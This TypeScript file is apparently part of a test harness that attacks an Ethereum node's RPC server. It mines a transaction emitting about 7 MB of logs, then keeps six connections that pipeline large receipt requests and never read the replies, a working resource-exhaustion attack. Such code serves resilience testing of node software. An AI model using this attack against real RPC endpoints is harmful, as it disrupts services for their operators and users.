import type { Socket } from "node:net";
import type { Hex } from "viem";
import { mined } from "../../commonCalls.ts";
import { pause } from "../../pause.ts";
import { accounts, signDraft } from "../../workload.ts";
import { type AttackedNode, type CallerAttack, connectFrom, httpRequest } from "./callerAttack.ts";

/** One more is above what a block takes of one transaction. */
const LOGS = 7;
const LOG_BYTES = 1024 ** 2;
const GAS = 70_000_000n;
const SOCKETS = 6;
const PIPELINED = 16;

/** Six connections ask sixteen times each for a receipt of 15 MB, as text, and read nothing; those that are cut come again. */
export const unreadReceipts: CallerAttack = {
  name: "unread receipts of 7 MB of logs",
  options: ["--rpc-http-api=ETH"],
  async prepare(node) {
    const request = httpRequest("eth_getTransactionReceipt", [await emitLogs(node)]).repeat(PIPELINED);
    return (isOver) => keepUnread(node, request, isOver);
  },
};

async function keepUnread(
  { port, tally }: AttackedNode,
  request: string,
  isOver: () => boolean,
): Promise<void> {
  const open = new Set<Socket>();
  while (!isOver()) {
    while (open.size < SOCKETS) {
      const socket = connectFrom(`127.0.0.${2 + open.size}`, port);
      open.add(socket);
      socket.once("close", () => {
        open.delete(socket);
        if (!isOver()) tally.note("connections cut");
      });
      socket.write(request);
    }
    await pause(100);
  }
  for (const socket of open) socket.destroy();
}

/** Sends the transaction with the logs, and returns its hash when it is mined. */
async function emitLogs({ client }: AttackedNode): Promise<Hex> {
  const [account] = accounts;
  if (account === undefined) throw new Error("no account");
  // LOG0(0, 1 MiB)
  const log = `62${LOG_BYTES.toString(16).padStart(6, "0")}5fa0`;
  const raw = signDraft({ data: `0x${log.repeat(LOGS)}`, gasLimit: GAS }, 0, account.privateKey);
  const hash = await client.call<Hex>("eth_sendRawTransaction", [raw]);
  await mined(client, hash);
  return hash;
}
